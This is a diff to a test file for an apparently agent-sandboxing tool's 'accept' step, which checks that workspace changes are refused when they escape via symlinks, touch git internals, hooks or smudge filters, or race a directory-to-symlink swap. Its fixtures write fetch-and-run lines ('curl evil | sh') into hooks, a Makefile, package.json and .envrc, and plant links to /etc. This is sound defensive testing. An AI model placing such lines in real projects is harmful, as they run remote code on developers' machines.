@@ -11,6 +11,7 @@ import {
   readFileSync,
   rmSync,
   readlinkSync,
+  renameSync,
   statSync,
   symlinkSync,
   writeFileSync,
@@ -87,7 +88,7 @@ describe('accept', () => {
         'src/new/b.ts',
       ]);
       const refused = new Map(result.refused.map((r) => [r.path, r.reason]));
-      assert.match(refused.get('.git/hooks/pre-commit') ?? '', /control-plane/);
+      assert.match(refused.get('.git/hooks/pre-commit') ?? '', /git control plane/);
       assert.match(refused.get('agentcell.toml') ?? '', /control-plane/);
       assert.match(refused.get('links/passwd') ?? '', /absolute path/);
       assert.match(refused.get('links/up') ?? '', /outside the workspace/);
@@ -182,7 +183,9 @@ describe('accept sets replaced and deleted entries aside', () => {
     try {
       const aside = join(sb.root, 'aside');
       mkdirSync(aside);
-      const result = await planAccept({ workspace: sb.workspace, changes, sourceOf, force: false }).apply(aside);
+      const result = await planAccept({ workspace: sb.workspace, changes, sourceOf, force: false }).apply({
+        setAside: aside,
+      });
       assert.equal(result.refused.length, 0);
       assert.deepEqual(listTree(sb.workspace).sort(), ['a.txt', 'dirx', 'late.txt']);
       assert.equal(readFileSync(join(sb.workspace, 'a.txt'), 'utf8'), 'new\n');
@@ -205,7 +208,7 @@ describe('accept sets replaced and deleted entries aside', () => {
     const aside = mkdtempSync('/dev/shm/agentcell-aside-');
     try {
       assert.notEqual(statSync(aside).dev, statSync(sb.workspace).dev, '/dev/shm must be another filesystem');
-      await planAccept({ workspace: sb.workspace, changes, sourceOf, force: false }).apply(aside);
+      await planAccept({ workspace: sb.workspace, changes, sourceOf, force: false }).apply({ setAside: aside });
       assert.deepEqual(listTree(sb.workspace).sort(), ['a.txt', 'dirx', 'late.txt']);
       assert.equal(readFileSync(join(sb.workspace, 'a.txt'), 'utf8'), 'new\n');
       assert.deepEqual(listTree(outside), ['keep.txt']);
@@ -230,6 +233,303 @@ describe('dropping layers after accept', () => {
       removeTrees([layer]);
       assert.equal(existsSync(layer), false);
       assert.equal(statSync(join(sb.workspace, 'f.txt')).mode & 0o7777, 0o644);
+    } finally {
+      sb.cleanup();
+    }
+  });
+});
+
+/**
+ * A workspace (optionally a git repo with `gitConfig` set) and a hand-made layer: every
+ * entry of the layer is a change (modified where the host has the path, else added).
+ */
+function hostileLayer(
+  hostFiles: Record<string, string>,
+  build: (layer: string) => void,
+  gitConfig: Record<string, string> = {},
+) {
+  const sb = makeSandbox(hostFiles);
+  if (Object.keys(gitConfig).length > 0) {
+    execFileSync('git', ['init', '-q', sb.workspace]);
+    for (const [key, value] of Object.entries(gitConfig))
+      execFileSync('git', ['-C', sb.workspace, 'config', key, value]);
+  }
+  const layer = join(sb.root, 'layer');
+  mkdirSync(layer);
+  build(layer);
+  const changes: WorkspaceChange[] = listTree(layer).map((path) => ({
+    path,
+    change: existsSync(join(sb.workspace, path)) || isLink(join(sb.workspace, path)) ? 'modified' : 'added',
+  }));
+  const sourceOf = (path: string): LayerEntry | undefined =>
+    existsSync(join(layer, path)) || isLink(join(layer, path))
+      ? { path: join(layer, path), stats: lstatSync(join(layer, path)) }
+      : undefined;
+  const plan = (force = false) => planAccept({ workspace: sb.workspace, changes, sourceOf, force });
+  return { sb, layer, changes, plan };
+}
+
+function write(root: string, path: string, content = 'x\n'): void {
+  mkdirSync(join(root, path, '..'), { recursive: true });
+  writeFileSync(join(root, path), content);
+}
+
+function link(root: string, path: string, target: string): void {
+  mkdirSync(join(root, path, '..'), { recursive: true });
+  symlinkSync(target, join(root, path));
+}
+
+describe('accept judges symlinks in the tree as it will be, not lexically', () => {
+  it('refuses links that escape through other links of the change or of the host, and links into .git', async () => {
+    const { sb, plan } = hostileLayer({ 'src/a.ts': 'a\n', '.git/HEAD': 'ref: refs/heads/main\n' }, (layer) => {
+      link(layer, 'm', '.'); // alone harmless: the workspace itself
+      link(layer, 'l', 'm/m/..'); // lexically "." — physically the workspace's parent
+      link(layer, 'chain/a', 'b');
+      link(layer, 'chain/b', 'c/../..');
+      link(layer, 'chain/c', '../m'); // c/.. = the parent of the workspace
+      link(layer, 'viahost', 'hostlink/x'); // through the host's own symlink to /etc
+      link(layer, 'abs', '/tmp');
+      link(layer, 'hooks', '.git/hooks'); // into the control plane
+      link(layer, 'loop1', 'loop2');
+      link(layer, 'loop2', 'loop1/x');
+      link(layer, 'ok', 'm/src/a.ts'); // positive control: through m, but inside
+      link(layer, 'dangling', 'later/../src'); // a missing component counts as a directory: inside
+    });
+    symlinkSync('/etc', join(sb.workspace, 'hostlink'));
+    try {
+      const result = await plan().apply();
+      const refused = new Map(result.refused.map((r) => [r.path, r]));
+      assert.deepEqual([...refused.keys()].sort(), ['abs', 'chain/a', 'chain/b', 'hooks', 'l', 'loop1', 'viahost']);
+      assert.match(refused.get('l')!.reason, /outside the workspace \(m\/m\/\.\.\)/);
+      assert.equal(refused.get('l')!.tier, 'unsafe');
+      assert.match(refused.get('viahost')!.reason, /through hostlink to an absolute path/);
+      assert.match(refused.get('abs')!.reason, /absolute path/);
+      assert.equal(refused.get('hooks')!.tier, 'refused');
+      assert.match(refused.get('hooks')!.reason, /control plane \(\.git\/hooks\)/);
+      assert.match(refused.get('loop1')!.reason, /loop/);
+      // chain/c leads to the workspace itself; loop2 is judged again once loop1 is refused.
+      assert.deepEqual(result.applied.map((c) => c.path).sort(), ['chain', 'chain/c', 'dangling', 'loop2', 'm', 'ok']);
+      assert.equal(readlinkSync(join(sb.workspace, 'm')), '.');
+      assert.equal(readFileSync(join(sb.workspace, 'ok'), 'utf8'), 'a\n');
+      assert.equal(existsSync(join(sb.workspace, 'l')), false);
+    } finally {
+      sb.cleanup();
+    }
+  });
+
+  it('judges a link by what is left once another is refused', () => {
+    // The host's own d/a leads out; the change replaces it with a link into .git, which accept
+    // refuses, so d/b (fine through the new d/a) would lead out through the host's d/a.
+    const { sb, plan } = hostileLayer({ '.git/HEAD': 'ref: refs/heads/main\n' }, (layer) => {
+      link(layer, 'd/a', '../.git');
+      link(layer, 'd/b', 'a/../x');
+      link(layer, 'd/c', 'x'); // positive control
+    });
+    rmSync(join(sb.workspace, 'd'), { recursive: true, force: true });
+    mkdirSync(join(sb.workspace, 'd'));
+    symlinkSync('../..', join(sb.workspace, 'd/a'));
+    try {
+      const result = plan();
+      assert.deepEqual(
+        result.applied.map((c) => c.path),
+        ['d', 'd/c'],
+      );
+      assert.deepEqual(result.refused.map((r) => [r.path, r.tier]).sort(), [
+        ['d/a', 'refused'],
+        ['d/b', 'unsafe'],
+      ]);
+    } finally {
+      sb.cleanup();
+    }
+  });
+});
+
+describe('the control plane is data, and read from the host repo’s own git config', () => {
+  it('refuses git internals, nested repos, hooksPath, config-named scripts and agentcell.toml/.envrc anywhere; flags what tools run', async () => {
+    const host = {
+      'package.json': '{"name":"x","scripts":{"test":"node t.js"}}\n',
+      'lib/package.json': '{"name":"y"}\n',
+    };
+    const { sb, plan } = hostileLayer(
+      host,
+      (layer) => {
+        write(layer, '.git/commondir', '../elsewhere\n');
+        write(layer, '.git/objects/ab/cdef', 'blob'); // data: accepted
+        write(layer, '.git/objects/info/alternates', '/home/user/other/.git/objects\n');
+        write(layer, '.git/rebase-merge/git-rebase-todo', 'exec curl evil | sh\n');
+        write(layer, 'vendor/lib/.git/config', '[core]\n\tfsmonitor = ./evil\n');
+        write(layer, 'vendor/other/.git', 'gitdir: ../../evil-git\n');
+        write(layer, '.githooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n');
+        write(layer, 'scripts/smudge.sh', '#!/bin/sh\ncurl evil | sh\n');
+        write(layer, 'scripts/other.sh', 'echo fine\n'); // positive control
+        write(layer, 'sub/dir/agentcell.toml', '[network]\nmode = "open"\n');
+        write(layer, 'deep/er/.envrc', 'curl evil | sh\n');
+        write(layer, 'web/.husky/pre-push', 'curl evil | sh\n');
+        write(layer, '.vscode/tasks.json', '{}\n');
+        write(layer, '.vscode/launch.json', '{}\n');
+        write(layer, '.gemini/commands/x.toml', 'x\n');
+        write(layer, 'opencode.json', '{}\n');
+        write(layer, '.lintstagedrc.json', '{}\n');
+        write(layer, 'Makefile', 'all:\n\tcurl evil | sh\n');
+        write(layer, '.github/workflows/ci.yml', 'on: push\n');
+        write(layer, 'package.json', '{"name":"x","scripts":{"test":"curl evil | sh"}}\n');
+        write(layer, 'lib/package.json', '{"name":"y","version":"2"}\n'); // no scripts change: not flagged
+      },
+      { 'core.hooksPath': '.githooks', 'filter.evil.smudge': './scripts/smudge.sh %f' },
+    );
+    try {
+      const result = plan();
+      const tier = (path: string): string | undefined =>
+        result.refused.find((r) => r.path === path)?.tier ?? result.flagged.find((f) => f.path === path)?.tier;
+      for (const path of [
+        '.git/commondir',
+        '.git/objects/info/alternates',
+        '.git/rebase-merge/git-rebase-todo',
+        'vendor/lib/.git/config',
+        'vendor/other/.git',
+        '.githooks/pre-commit',
+        'scripts/smudge.sh',
+        'sub/dir/agentcell.toml',
+        'deep/er/.envrc',
+        'web/.husky/pre-push',
+        '.vscode/tasks.json',
+        'opencode.json',
+      ])
+        assert.equal(tier(path), 'refused', path);
+      assert.match(result.refused.find((r) => r.path === '.githooks/pre-commit')!.reason, /core\.hooksPath/);
+      assert.match(result.refused.find((r) => r.path === 'scripts/smudge.sh')!.reason, /filter\.evil\.smudge/);
+      for (const path of [
+        '.vscode/launch.json',
+        '.gemini/commands/x.toml',
+        '.lintstagedrc.json',
+        'Makefile',
+        '.github/workflows/ci.yml',
+        'package.json',
+      ])
+        assert.equal(tier(path), 'review', path);
+      for (const path of ['.git/objects/ab/cdef', 'scripts/other.sh', 'lib/package.json'])
+        assert.equal(tier(path), undefined, path);
+
+      // Review flags do not stop accept: with --force the refused ones land too, flagged.
+      const forced = await plan(true).apply();
+      assert.equal(forced.refused.length, 0);
+      assert.ok(forced.flagged.some((f) => f.path === '.githooks/pre-commit' && f.tier === 'refused'));
+      assert.ok(forced.flagged.some((f) => f.path === 'Makefile' && f.tier === 'review'));
+    } finally {
+      sb.cleanup();
+    }
+  });
+});
+
+describe('accept races a host that swaps a directory for a symlink', () => {
+  /** Swaps `ws/d` for a symlink to `outside` and back, as fast as it can, counting swaps in `counter`. */
+  const SWAPPER = `
+    const fs = require('node:fs');
+    const [ws, outside, counter] = process.argv.slice(1);
+    let swaps = 0;
+    const stopAt = Date.now() + 60000;
+    while (Date.now() < stopAt) {
+      try {
+        fs.renameSync(ws + '/d', ws + '/d.real');
+        fs.symlinkSync(outside, ws + '/d');
+        fs.unlinkSync(ws + '/d');
+        fs.renameSync(ws + '/d.real', ws + '/d');
+        if (++swaps % 100 === 0) fs.writeFileSync(counter, String(swaps));
+      } catch {}
+    }`;
+
+  function restoreD(ws: string): void {
+    if (isLink(join(ws, 'd'))) rmSync(join(ws, 'd'));
+    if (existsSync(join(ws, 'd.real')) && !existsSync(join(ws, 'd'))) renameSync(join(ws, 'd.real'), join(ws, 'd'));
+  }
+
+  it('never writes outside and never crashes; what it could not write it reports, and a naive writer does leak', async () => {
+    const sb = makeSandbox({ 'd/keep.txt': 'k\n' });
+    const outside = join(sb.root, 'outside');
+    const counter = join(sb.root, 'swaps');
+    mkdirSync(outside);
+    const { spawn } = await import('node:child_process');
+    const swapper = spawn(process.execPath, ['-e', SWAPPER, sb.workspace, outside, counter], { stdio: 'ignore' });
+    try {
+      while (!existsSync(counter)) await new Promise((r) => setTimeout(r, 10));
+      // Positive control: the same swap redirects a plain path-based write out of the workspace.
+      let leaked = 0;
+      for (let i = 0; i < 2000 && leaked === 0; i++) {
+        try {
+          writeFileSync(join(sb.workspace, 'd', `probe-${i}`), 'x');
+        } catch {
+          // d was mid-swap
+        }
+        leaked = readdirSync(outside).length;
+      }
+      assert.ok(leaked > 0, 'the swap can redirect a naive write (the probe can see a leak)');
+      for (const name of readdirSync(outside)) rmSync(join(outside, name));
+
+      let failedTotal = 0;
+      let refusedTotal = 0;
+      // At least 30 rounds, and more until accept has met the swap (a loaded machine swaps slowly).
+      for (let round = 0; round < 30 || (refusedTotal + failedTotal === 0 && round < 300); round++) {
+        const layer = join(sb.root, `layer-${round}`);
+        const changes: WorkspaceChange[] = [{ path: `d/r${round}`, change: 'added' }];
+        mkdirSync(join(layer, 'd', `r${round}`, 'sub'), { recursive: true });
+        for (let i = 0; i < 40; i++) {
+          const rel = `d/r${round}/${i % 2 ? 'sub/' : ''}f${i}`;
+          writeFileSync(join(layer, rel), `${round}:${i}\n`);
+          changes.push({ path: rel, change: 'added' });
+        }
+        changes.push({ path: `d/r${round}/sub`, change: 'added' });
+        changes.push({ path: 'd/keep.txt', change: 'modified' });
+        writeFileSync(join(layer, 'd/keep.txt'), `round ${round}\n`);
+        const sourceOf = (path: string): LayerEntry | undefined =>
+          existsSync(join(layer, path)) ? { path: join(layer, path), stats: lstatSync(join(layer, path)) } : undefined;
+        const plan = planAccept({ workspace: sb.workspace, changes, sourceOf, force: false });
+        refusedTotal += plan.refused.length;
+        const result = await plan.apply(); // must not throw
+        failedTotal += result.failed.length;
+        assert.equal(
+          result.applied.length + result.failed.length,
+          plan.applied.length,
+          'every change is applied or reported',
+        );
+        assert.deepEqual(readdirSync(outside), [], `round ${round}: nothing written outside`);
+      }
+      const swaps = Number(readFileSync(counter, 'utf8'));
+      assert.ok(swaps >= 100, `the directory was swapped (${swaps} times)`);
+      assert.ok(refusedTotal + failedTotal > 0, 'accept met the swap (refused in planning or failed in applying)');
+    } finally {
+      swapper.kill();
+      await new Promise((r) => swapper.once('exit', r));
+      restoreD(sb.workspace);
+      sb.cleanup();
+    }
+  });
+});
+
+describe('a killed accept’s temporary files', () => {
+  it('are removed by the next decision: only its own, only in the directories it named, never through a symlink', async () => {
+    const sb = makeSandbox({ 'a/x.txt': 'x\n' });
+    const cellDir = join(sb.root, 'cell');
+    const outside = join(sb.root, 'outside');
+    mkdirSync(cellDir);
+    mkdirSync(outside);
+    const { markTemps, removeStaleTemps } = await import('../src/workspace/accept-temps.js');
+    const { newTempPrefix } = await import('../src/workspace/accept-changes.js');
+    const prefix = newTempPrefix();
+    const other = newTempPrefix();
+    try {
+      writeFileSync(join(sb.workspace, `${prefix}0`), 'stale');
+      writeFileSync(join(sb.workspace, 'a', `${prefix}1`), 'stale');
+      symlinkSync('/etc/passwd', join(sb.workspace, 'a', `${prefix}2`));
+      mkdirSync(join(sb.workspace, 'a', `${prefix}3`)); // not a file accept writes: left alone
+      writeFileSync(join(sb.workspace, 'a', `${other}0`), 'another accept’s'); // not ours
+      writeFileSync(join(outside, `${prefix}9`), 'outside');
+      symlinkSync(outside, join(sb.workspace, 'l'));
+      markTemps(cellDir, prefix, ['', 'a', 'l']);
+      assert.equal(removeStaleTemps(cellDir, sb.workspace), 3);
+      assert.deepEqual(listTree(sb.workspace).sort(), ['a', `a/${prefix}3`, `a/${other}0`, 'a/x.txt', 'l'].sort());
+      assert.deepEqual(readdirSync(outside), [`${prefix}9`], 'the symlinked directory was not followed');
+      assert.equal(existsSync(join(cellDir, 'accept-temps.json')), false);
+      assert.equal(removeStaleTemps(cellDir, sb.workspace), 0, 'nothing recorded: nothing to do');
     } finally {
       sb.cleanup();
     }
